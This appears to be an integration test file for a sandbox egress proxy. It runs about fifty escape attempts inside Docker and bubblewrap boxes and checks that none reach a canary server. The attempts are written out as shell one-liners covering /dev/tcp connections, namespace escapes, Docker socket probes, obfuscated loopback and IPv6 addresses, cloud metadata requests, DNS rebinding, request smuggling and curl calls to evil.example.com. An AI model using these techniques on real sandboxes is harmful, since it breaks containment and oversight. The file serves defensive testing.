/**
 * From inside a real box, with everything that the box has: no way leads anywhere but through the list. Each trick prints
 * `OUT` when something answered that must not; a canary stands where it would arrive.
 */
import { assert, layer } from "@effect/vitest"
import { Context, Effect, Layer } from "effect"
import { execFile } from "node:child_process"
import * as dgram from "node:dgram"
import * as Http from "node:http"
import * as net from "node:net"
import { networkInterfaces } from "node:os"
import { promisify } from "node:util"
import type { NetworkPolicy } from "../../../src/domain/Channel.ts"
import { forwards, proxyEnv } from "../../../src/domain/egress/Inside.ts"
import * as EgressProxy from "../../../src/layers/egress/EgressProxy.ts"
import * as SecretsLive from "../../../src/layers/secrets/SecretsLive.ts"
import * as SandboxBubblewrap from "../../../src/layers/sandbox/SandboxBubblewrap.ts"
import * as SandboxDocker from "../../../src/layers/sandbox/SandboxDocker.ts"
import { Egress } from "../../../src/services/Egress.ts"
import { Sandbox } from "../../../src/services/Sandbox.ts"
import { Boxes, boxesOver, dockerParts, finish, settings } from "../../support/Boxes.ts"
import * as Line from "../../support/egress/Line.ts"
import * as StandIn from "../../support/egress/StandIn.ts"

const real = { timeout: "10 minutes", excludeTestServices: true } as const

const egress = <A, E, R>(below: Layer.Layer<A, E, R>) =>
  Layer.provide(Layer.effect(Egress, EgressProxy.make({})), SecretsLive.layer).pipe(
    Layer.provideMerge(StandIn.layer),
    Layer.provideMerge(below)
  )

const inDocker = boxesOver(Layer.effect(Sandbox, SandboxDocker.make({ orphanSec: 600 }))).pipe(
  Layer.provideMerge(egress(dockerParts(settings())))
)
const inRelayed = boxesOver(Layer.effect(Sandbox, SandboxDocker.make({ orphanSec: 600 }))).pipe(
  Layer.provideMerge(egress(dockerParts(settings({ container_relay: "exec" }))))
)
const inBubblewrap = boxesOver(SandboxBubblewrap.layer).pipe(Layer.provideMerge(egress(settings())))

/** Where this machine can be reached by others, apart from its loopback. */
const hostAddress = (): string =>
  Object.values(networkInterfaces())
    .flatMap((all) => all ?? [])
    .find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? "127.0.0.1"

const CANARY = "the-canary-sings"

/** Services of this machine on every address, which nobody in a box may hear: HTTP and plain TCP at once, and UDP. */
class Canary extends Context.Service<Canary, { readonly port: number; readonly heard: Array<string> }>()(
  "loop/test/Canary"
) {}

const canary = Layer.effect(
  Canary,
  Effect.gen(function* () {
    const heard: Array<string> = []
    const server = Http.createServer((request, response) => {
      heard.push(request.url ?? "")
      response.end(CANARY)
    })
    server.on("connection", () => heard.push("a connection"))
    const udp = dgram.createSocket("udp4", () => void heard.push("a datagram"))
    const port = yield* Effect.acquireRelease(
      Effect.callback<number>((resume) => {
        server.listen(0, "0.0.0.0", () => {
          const { port } = server.address() as net.AddressInfo
          udp.bind(port, "0.0.0.0", () => resume(Effect.succeed(port)))
        })
      }),
      () =>
        Effect.sync(() => {
          server.close()
          server.closeAllConnections()
          udp.close()
        })
    )
    return { port, heard }
  })
)

/** One trick: a piece of shell that prints whatever it got. `$P`: the canary's port, `$H`: this machine, `$X`: the proxy. */
const tricks: Readonly<Record<string, string>> = {
  "a connection to the host's address": "curl -sm 3 --noproxy '*' http://$H:$P/",
  "a connection to an address of the internet": "curl -sm 3 --noproxy '*' http://93.184.216.34/",
  "bash's own TCP": "exec 3<>/dev/tcp/$H/$P && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3",
  "bash's own UDP": "echo hi >/dev/udp/$H/$P",
  "a name resolved by the box": "getent hosts github.com && echo OUT",
  "a DNS question over UDP": "echo q >/dev/udp/8.8.8.8/53 && echo OUT",
  "a raw socket": "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print(\"OUT\")'",
  "a packet socket": "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print(\"OUT\")'",
  "a device of its own": "ls /sys/class/net | grep -v '^lo$' && echo OUT",
  "a route of its own":
    "python3 -c 'print(open(\"/proc/net/route\").read())' | grep -c ^eth | grep -v '^0$' && echo OUT",
  "a tunnel device": "(exec 3<>/dev/net/tun) 2>/dev/null && echo OUT",
  "a network namespace of the host": "nsenter -t 1 -n curl -sm 3 http://$H:$P/",
  "a new user namespace": "unshare -Urn true && nsenter --net=/proc/1/ns/net curl -sm 3 http://$H:$P/",
  "an abstract socket of the host": "socat -T 2 - ABSTRACT-CONNECT:loop-redteam </dev/null",
  "the engine's socket": "ls /var/run/docker.sock /run/docker.sock 2>/dev/null && echo OUT",
  "another process's sockets": "ls /run/loop | grep -v -x -e egress.sock -e model.sock && echo OUT",
  "a socket put in the proxy's place": "rm /run/loop/egress.sock && echo OUT",
  "a file beside the sockets": "touch /run/loop/x && echo OUT",
  "the proxy to a host that is not listed": "curl -sm 5 https://evil.example.com/ && echo OUT",
  "the proxy to a host that is not listed, in the clear": "curl -sm 5 http://evil.example.com/ | grep -v '^Loop: '",
  "the proxy to the host's loopback": "curl -sm 5 --noproxy '' -x $X http://127.0.0.1:$P/ | grep -v '^Loop: '",
  "the proxy to localhost by name": "curl -sm 5 --noproxy '' -x $X http://localhost:$P/ | grep -v '^Loop: '",
  "the proxy to loopback in decimal": "curl -sm 5 --noproxy '' -x $X -p http://2130706433:$P/",
  "the proxy to loopback in hex": "curl -sm 5 --noproxy '' -x $X -p http://0x7f000001:$P/",
  "the proxy to loopback in octal": "curl -sm 5 --noproxy '' -x $X -p http://017700000001:$P/",
  "the proxy to loopback in its short form": "curl -sm 5 --noproxy '' -x $X -p http://127.1:$P/",
  "the proxy to zero": "curl -sm 5 --noproxy '' -x $X -p http://0:$P/",
  "the proxy to loopback of IPv6": "curl -sm 5 --noproxy '' -x $X -p 'http://[::1]:'$P/",
  "the proxy to a mapped address": "curl -sm 5 --noproxy '' -x $X -p 'http://[::ffff:127.0.0.1]:'$P/",
  "the proxy to an address in NAT64": "curl -sm 5 --noproxy '' -x $X -p 'http://[64:ff9b::7f00:1]:'$P/",
  "the proxy to an address in 6to4": "curl -sm 5 --noproxy '' -x $X -p 'http://[2002:7f00:1::]:'$P/",
  "the proxy to the host's own address": "curl -sm 5 --noproxy '' -x $X -p http://$H:$P/",
  "the proxy to a cloud's metadata": "curl -sm 5 http://169.254.169.254/latest/meta-data/ | grep -v '^Loop: '",
  "the proxy to a cloud's metadata by name": "curl -sm 5 http://metadata.google.internal/ | grep -v '^Loop: '",
  "a listed name that leads inside": "curl -sm 5 -p http://inside.example.com:$P/",
  "a listed name that leads inside at its second look-up":
    "for i in 1 2 3; do curl -sm 5 http://rebind.example.com/ | grep -v -e '^Loop: ' -e '^site'; done",
  "a listed site that sends on to the inside": "curl -sLm 5 http://site.example.com/inside | grep -v '^Loop: '",
  "a listed site that sends on to another host": "curl -sLm 5 http://site.example.com/away | grep -v '^Loop: '",
  "a Host that names another server":
    "curl -sm 5 -H 'Host: evil.example.com' http://site.example.com/ | grep -v '^Loop: '",
  "two requests as one":
    "printf 'POST http://site.example.com/ HTTP/1.1\\r\\nHost: site.example.com\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:'$P'/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | socat -t 2 - TCP:127.0.0.1:3128 | grep -a " +
    CANARY,
  "a second request behind an allowed one":
    "printf 'GET http://site.example.com/ HTTP/1.1\\r\\nHost: site.example.com\\r\\n\\r\\nGET http://127.0.0.1:'$P'/ HTTP/1.1\\r\\nHost: 127.0.0.1:'$P'\\r\\n\\r\\n' | socat -t 2 - TCP:127.0.0.1:3128 | grep -a " +
    CANARY,
  "a line break in the target":
    "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3128)); s.sendall(b'CONNECT site.example.com:80\\r\\nX: y HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))\" | grep -a ' 200 '",
  "a tunnel with another server's name inside":
    "curl -sm 5 -k --connect-to evil.example.com:443:site.example.com:443 https://evil.example.com/ && echo OUT",
  "a user in the address": "curl -sm 5 http://site.example.com@evil.example.com/ | grep -v '^Loop: '",
  "a port that is not listed": "curl -sm 5 -p http://site.example.com:$P/",
  mail: "curl -sm 5 smtp://site.example.com:25 --mail-from a@b.c --mail-rcpt d@e.f -T /etc/hostname && echo OUT",
  "FTP by way of the proxy": "curl -sm 5 ftp://site.example.com/ | grep -v '^Loop: '",
  SOCKS: "curl -sm 5 --socks5-hostname 127.0.0.1:3128 http://evil.example.com/ && echo OUT",
  "ssh to a host that is not listed":
    "$GIT_SSH_COMMAND -o ConnectTimeout=5 git@evil.example.com true 2>/dev/null && echo OUT",
  "git's own protocol": "git ls-remote git://site.example.com/x 2>/dev/null && echo OUT",
  "a port of the host that is not named": "curl -sm 3 --noproxy '*' http://127.0.0.1:$P/",
  "reading any page, which is off":
    "curl -sm 5 --noproxy '' -x $X http://fetch.loop/http://evil.example.com/ | grep -v '^Loop: '"
}

const script = (wall: string, port: number) =>
  [
    `P=${port} H=${hostAddress()} X=http://127.0.0.1:3128`,
    ...Object.entries(tricks).map(
      ([name, trick]) =>
        `out=$( (${trick}) 2>/dev/null | tr -d '\\0' | head -c 200 | tr '\\n' ' '); echo "${name} [${wall}]: $out"`
    )
  ].join("\n")

const SITE = "93.184.216.34"

/** A site that is listed and does its best to help. */
const site = (port: number) =>
  Effect.gen(function* () {
    const outer = yield* StandIn.Outer
    const server = Http.createServer((request, response) => {
      const location = request.url === "/inside" ? `http://127.0.0.1:${port}/` : "http://evil.example.com/"
      if (request.url !== "/") return void response.writeHead(302, { location }).end()
      response.end("site")
    })
    const evil = Http.createServer((_, response) => void response.end("OUT"))
    outer.name("site.example.com", SITE)
    outer.name("evil.example.com", "93.184.216.66")
    outer.name("inside.example.com", "127.0.0.1")
    outer.rebind("rebind.example.com", SITE, "127.0.0.1", hostAddress())
    yield* outer.serve(SITE, 80, server)
    yield* outer.serve("93.184.216.66", 80, evil)
    yield* outer.serve(
      "93.184.216.66",
      443,
      net.createServer((socket) => void socket.end("OUT"))
    )
    yield* outer.serve(
      SITE,
      443,
      net.createServer((socket) => void socket.end())
    )
    // Nobody is there in this internet; the machine itself would answer.
    outer.own.push(hostAddress())
    return outer
  })

const attack = Effect.fnUntraced(function* (wall: string, mode: NetworkPolicy["mode"]) {
  const boxes = yield* Boxes
  const sandbox = yield* Sandbox
  const { port, heard } = yield* Canary
  const outer = yield* site(port)
  const policy = Line.policy({
    mode,
    allow: ["site.example.com", "inside.example.com:1024", `inside.example.com:${port}`, "rebind.example.com"]
  })
  const spec = boxes.spec(["/bin/bash", "-c", script(wall, port)], {
    env: proxyEnv(policy),
    forwards: forwards(policy),
    limits: { memoryMb: 512, cpus: 2, pids: 256 }
  })
  yield* Line.open(spec.processId, policy)
  const before = outer.dialled.length
  const box = yield* sandbox.start(spec)
  const { lines } = yield* Effect.ensuring(finish(box), box.kill)
  return { lines, heard, dialled: outer.dialled.slice(before) }
}, Effect.scoped)

const count = Object.keys(tricks).length

/** One that listens where only the host's own network namespace is heard. */
const abstract = Effect.acquireRelease(
  Effect.sync(() => {
    const server = net.createServer((socket) => void socket.end(CANARY))
    server.listen("\0loop-redteam")
    return server
  }),
  (server) => Effect.sync(() => void server.close())
)

for (const [wall, world] of [
  ["a container", inDocker],
  ["a container with a relay", inRelayed],
  ["bubblewrap", inBubblewrap]
] as const) {
  layer(Layer.merge(world, canary), real)(`out of ${wall}`, (it) => {
    it.effect(`leads none of ${count} tricks, with the list`, () =>
      Effect.gen(function* () {
        yield* abstract
        const { dialled, heard, lines } = yield* attack(wall, "allowlist")
        assert.isAtLeast(count, 30)
        assert.deepStrictEqual(
          lines.filter((line) => !line.endsWith(": ")),
          []
        )
        assert.strictEqual(lines.length, count)
        assert.deepStrictEqual(heard, [])
        // The listed site alone was ever spoken to.
        assert.deepStrictEqual([...new Set(dialled)].sort(), [`${SITE}:443`, `${SITE}:80`])
      })
    )

    // A relay leads to the same sockets, of which the same rules are asked: the other modes have nothing more to show there.
    if (world === inRelayed) return

    it.effect("leads nowhere at all with none", () =>
      Effect.gen(function* () {
        yield* abstract
        const { dialled, heard, lines } = yield* attack(wall, "none")
        assert.deepStrictEqual([lines.filter((line) => !line.endsWith(": ")), heard, dialled], [[], [], []])
      })
    )

    it.effect("leads to no machine inside with open", () =>
      Effect.gen(function* () {
        yield* abstract
        const { dialled, heard, lines } = yield* attack(wall, "open")
        assert.deepStrictEqual(heard, [])
        assert.deepStrictEqual(
          lines.filter((line) => line.includes(CANARY)),
          []
        )
        assert.deepStrictEqual(
          dialled.filter((where) => !where.startsWith("93.184.216.")),
          []
        )
      })
    )
  })
}

/** The test's own teeth: what must not get out of a box does get out here. */
layer(canary, real)("the canary", (it) => {
  it.effect("is heard by who is not in a box", () =>
    Effect.gen(function* () {
      const { heard, port } = yield* Canary
      const address = `http://${hostAddress()}:${port}/`
      const said = yield* Effect.promise(() => promisify(execFile)("curl", ["-sm", "3", "--noproxy", "*", address]))
      assert.strictEqual(said.stdout, CANARY)
      assert.include(heard, "/")
    })
  )
})
